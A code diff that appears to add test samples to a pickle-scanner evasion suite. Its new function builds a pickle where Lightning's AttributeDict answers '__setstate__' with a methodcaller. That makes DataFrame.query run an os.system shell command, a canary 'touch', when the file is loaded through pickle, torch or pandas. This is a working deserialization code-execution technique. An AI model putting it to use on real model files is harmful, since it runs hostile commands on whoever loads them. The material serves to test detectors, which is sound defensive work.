@@ -16,7 +16,13 @@ arguments of an allowed callable that *does* call it while the file loads:
   ``methodcaller('query', df, '@torch.os.system(...)')`` stored under ``as_subclass`` runs
   ``pandas.DataFrame.query``, whose ``@`` names reach the globals of the calling frame
   (``torch._tensor``'s): a shell command, through the wrapper the engine had let through
-  because the only code it is handed to was ``_rebuild_from_type_v2``.
+  because the only code it is handed to was ``_rebuild_from_type_v2``;
+- a BUILD calls ``getattr(obj, "__setstate__")``: an ``AttributeDict`` answers with the item
+  of that name (and any object with a ``__dict__`` with the instance attribute a first BUILD
+  planted, since a class's method does not shadow it), so a methodcaller stored there runs
+  ``DataFrame.query`` on the BUILD's state, a DataFrame: ``@pickle.sys.modules["os"]``
+  resolves in the frame that called ``pickle.load`` (the user's script, ``torch.load``,
+  ``pandas.read_pickle``), all of which import pickle.
 
 In both the methodcaller is ``methodcaller('tofile', path)`` applied to an array: it writes
 the file at ``path`` (the canary; with ``sep`` and ``format`` arguments, chosen text around
@@ -152,6 +158,30 @@ def _attribute_dict_runs_a_pandas_query(canary: Path) -> bytes:
     )
 
 
+def _attribute_dict_setstate_runs_a_pandas_query(canary: Path) -> bytes:
+    # AttributeDict() with the item "__setstate__" = methodcaller("query", expr), then BUILD
+    # with a DataFrame: BUILD calls methodcaller(df), i.e. df.query(expr).
+    import pandas as pd
+
+    attribute_dict = type("AttributeDict", (dict,), {"__module__": "_rev1_stand_in"})
+    module = sys.modules.setdefault("_rev1_stand_in", types.ModuleType("_rev1_stand_in"))
+    module.AttributeDict = attribute_dict  # type: ignore[attr-defined]
+    planted = attribute_dict()
+    planted["__setstate__"] = operator.methodcaller(
+        "query", f'@pickle.sys.modules["os"].system("touch {canary}")'
+    )
+    raw = pickle.dumps([planted, pd.DataFrame({"a": [1]})], protocol=2)
+    # [planted, df] as [EMPTY_LIST, BINPUT 0, MARK, ..., APPENDS]: drop the list, BUILD instead.
+    head = b"\x80\x02]q\x00("
+    assert raw.startswith(head)
+    assert raw.endswith(b"e.")
+    return _as_global(
+        b"\x80\x02" + raw[len(head) : -2] + b"b.",
+        b"c_rev1_stand_in\nAttributeDict\n",
+        b"clightning_fabric.utilities.data\nAttributeDict\n",
+    )
+
+
 SAMPLES: list[Sample] = [
     file_sample(
         "rev1-sklearn-reexported-linear-operator-calls-a-methodcaller",
@@ -196,6 +226,23 @@ SAMPLES: list[Sample] = [
         _PICKLE_LOAD,
         rules=_RULES,
         requires=("pandas", "torch", "lightning_fabric"),
+    ),
+    file_sample(
+        "rev1-attribute-dict-answers-setstate-with-a-pandas-query",
+        _attribute_dict_setstate_runs_a_pandas_query,
+        "BUILD on Lightning's AttributeDict calls its item '__setstate__', a methodcaller: "
+        "DataFrame.query evaluates '@pickle.sys.modules[\"os\"].system(...)'",
+        _PICKLE_LOAD,
+        rules=_RULES,
+        requires=("pandas", "lightning_fabric"),
+    ),
+    file_sample(
+        "rev1-attribute-dict-setstate-query-read-by-pandas",
+        _attribute_dict_setstate_runs_a_pandas_query,
+        "the same AttributeDict __setstate__ payload, loaded with pandas.read_pickle",
+        _PANDAS_LOAD,
+        rules=_RULES,
+        requires=("pandas", "lightning_fabric"),
     ),
     file_sample(
         "rev1-legacy-torch-magic-number-frame-hides-a-pickle",
